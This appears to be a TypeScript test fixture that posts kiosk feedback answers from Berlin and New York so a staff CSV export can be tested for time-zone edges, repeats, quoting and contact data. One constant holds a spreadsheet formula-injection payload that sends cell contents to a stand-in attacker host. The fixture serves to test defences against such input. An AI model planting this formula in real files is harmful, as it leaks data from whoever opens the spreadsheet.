// The answer export's fixture: answers at two locations in different time zones (Berlin and New
// York), posted through /v1/answers as kiosks post them, with the awkward cases the export must
// survive (a formula comment, quotes and a line break, contact details, a possible repeat, days
// that differ between local time and UTC). staff-export.test.ts reads them back.
import { beforeAll } from 'vitest';
import { answerPoster, storeIds, twoZonesWithSurvey } from './kiosk-answers.ts';
import type { StaffCollector } from './staff.ts';

export const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
export const AWKWARD = 'She said "hi", then\r\nleft, happy';
export const CONTACT = {
  consentVersion: 'v1',
  name: 'Ada SECRET-NAME-4410',
  phone: '+44 20 7946 0000',
};

/**
 * Call it in the describe block that owns `c`: posts the fixture before the block's first test.
 * `ids` names each answer's id by its key here; `place` holds the location and touchpoint ids.
 */
export function useExportFixture(c: StaffCollector) {
  const { ids, post } = answerPoster(c);
  const place = { main: 0, outlet: 0, outletDoor: 0 };

  beforeAll(async () => {
    await twoZonesWithSurvey(c);
    await post('main', [
      // 09:15 in Berlin (UTC+1 in November).
      [
        'formula',
        {
          finalizedAt: '2026-11-02T08:15:00.000Z',
          smiley: 2,
          reasons: ['wait', 'staff'],
          language: 'et',
          comment: FORMULA,
        },
      ],
      // The same faces again a minute later: a possible repeat.
      ['repeat', { finalizedAt: '2026-11-02T08:16:00.000Z', smiley: 2, possibleRepeat: true }],
      // 23:30 in Berlin, still 2 November there.
      [
        'awkward',
        {
          finalizedAt: '2026-11-02T22:30:00.000Z',
          comment: AWKWARD,
          contact: CONTACT,
          status: 'partial',
          nps: 10,
          ces: 6,
          talkNow: true,
        },
      ],
      // 00:30 on 4 November in Berlin, though 3 November in UTC: after the period.
      ['late', { finalizedAt: '2026-11-03T23:30:00.000Z' }],
    ]);
    await post('outlet', [
      // 22:00 on 1 November in New York (UTC-5), though 2 November in UTC: before the period.
      ['early', { finalizedAt: '2026-11-02T03:00:00.000Z' }],
      // 22:00 on 2 November in New York, 3 November in UTC: inside.
      ['evening', { finalizedAt: '2026-11-03T03:00:00.000Z', reasons: ['friendly'] }],
    ]);
    Object.assign(place, await storeIds(c));
  });
  return { ids, place };
}
